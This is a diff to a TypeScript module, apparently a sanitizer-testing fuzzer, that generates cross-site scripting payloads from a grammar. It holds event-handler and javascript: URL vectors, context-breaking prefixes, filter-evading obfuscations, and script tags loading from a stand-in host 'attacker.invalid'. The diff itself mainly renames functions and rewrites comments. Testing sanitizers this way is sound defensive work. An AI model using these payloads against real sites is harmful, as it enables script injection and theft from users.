@@ -1,20 +1,22 @@
-import { type Chance, chance } from './random.ts';
+import { createRandom, type Random } from './random.ts';
 
-/** Where every payload that asks for something asks it: a host that is not ours. */
+/** The host to which payloads send their requests. */
 export const FOREIGN_HOST = 'attacker.invalid';
 
 /**
- * Texts that try to run a script or to fetch something, made from a grammar: what to do, where in a page it would take effect, and
- * how it hides. Each calls the global `__trap` (or a dialog) or asks `FOREIGN_HOST`.
+ * Returns texts that try to run a script or to send a request, generated from a grammar: a script, the markup around it, and an obfuscation.
+ * Each calls the global `__trap`, opens a dialog or sends a request to `FOREIGN_HOST`.
  */
-export function payloads(count: number, seed: number): readonly string[] {
-  const dice = chance(seed);
-  return Array.from({ length: count }, (_, index) => disguise(place(deed(index, dice), dice), dice));
+export function generatePayloads(count: number, seed: number): readonly string[] {
+  const random = createRandom(seed);
+  return Array.from({ length: count }, (_, index) =>
+    obfuscate(embed(scriptFor(index, random), random), random),
+  );
 }
 
-/** JavaScript that would tell. */
-function deed(index: number, dice: Chance): string {
-  return dice.pick([
+/** Returns JavaScript whose execution the test would notice. */
+function scriptFor(index: number, random: Random): string {
+  return random.pick([
     `__trap(${index})`,
     `alert(${index})`,
     `window['__tr'+'ap'](${index})`,
@@ -43,13 +45,13 @@ const EVENTS = [
   'onbeforetoggle',
 ] as const;
 
-/** The contexts in which a page might come to run it. */
-function place(script: string, dice: Chance): string {
-  const event = dice.pick(EVENTS);
+/** Puts a script into markup or another context in which a page might run it. */
+function embed(script: string, random: Random): string {
+  const event = random.pick(EVENTS);
   const foreign = `//${FOREIGN_HOST}/${encodeURIComponent(script)}`;
-  const url = address(script, dice);
+  const url = hostileUrl(script, random);
   const element = (): string =>
-    dice.pick([
+    random.pick([
       `<script>${script}</script>`,
       `<script src="${foreign}"></script>`,
       `<img src=x ${event}="${script}">`,
@@ -99,11 +101,11 @@ function place(script: string, dice: Chance): string {
       `<table background="${foreign}"><tr><td>more</table>`,
       `<isindex type=image src=1 onerror="${script}">`,
     ]);
-  return dice.pick<() => string>([
+  return random.pick<() => string>([
     element,
     element,
     element,
-    // Out of whatever it is put into.
+    // Close the attribute, comment or element around it.
     () => `">${element()}`,
     () => `'>${element()}`,
     () => `-->${element()}`,
@@ -112,7 +114,7 @@ function place(script: string, dice: Chance): string {
     () => `" autofocus ${event}="${script}`,
     () => `' ${event}='${script}`,
     () => `x\` ${event}=${script} \``,
-    // Script strings, templates and addresses.
+    // Script strings, templates and URLs.
     () => `';${script};'`,
     () => `";${script};//`,
     () => `\${${script}}`,
@@ -126,8 +128,8 @@ function place(script: string, dice: Chance): string {
   ])();
 }
 
-function address(script: string, dice: Chance): string {
-  return dice.pick([
+function hostileUrl(script: string, random: Random): string {
+  return random.pick([
     `javascript:${script}`,
     `JaVaScRiPt:${script}`,
     `java\tscript:${script}`,
@@ -149,13 +151,13 @@ function address(script: string, dice: Chance): string {
   ]);
 }
 
-/** Ways past a filter that looks for the plain form. */
-function disguise(text: string, dice: Chance): string {
-  return dice.pick<() => string>([
+/** Changes the notation so that a filter for the plain form would miss it. */
+function obfuscate(text: string, random: Random): string {
+  return random.pick<() => string>([
     () => text,
     () => text,
     () => text,
-    () => text.replace(/<(\w+)/g, (_, name: string) => `<${alternate(name)}`),
+    () => text.replace(/<(\w+)/g, (_, name: string) => `<${alternateCase(name)}`),
     () => text.replace(/<(\w+) /g, '<$1/'),
     () => text.replace(/<(\w+) /g, '<$1\n'),
     () => text.replace(/<(\w+) /g, '<$1\f'),
@@ -173,6 +175,6 @@ function disguise(text: string, dice: Chance): string {
   ])();
 }
 
-function alternate(text: string): string {
+function alternateCase(text: string): string {
   return [...text].map((letter, index) => (index % 2 ? letter.toUpperCase() : letter)).join('');
 }
